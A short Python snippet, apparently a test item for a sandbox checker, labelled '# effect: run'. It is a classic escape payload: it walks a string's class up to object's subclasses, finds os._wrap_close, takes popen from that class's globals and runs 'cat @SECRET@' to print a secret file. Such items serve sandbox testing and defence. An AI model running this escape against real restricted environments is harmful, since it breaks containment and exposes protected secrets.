# The same walk through the method resolution order of a string's class.
# effect: run
for kind in "".__class__.__mro__[-1].__subclasses__():
    if kind.__name__ == "_wrap_close":
        print(kind.__init__.__globals__["popen"]("cat @SECRET@").read())
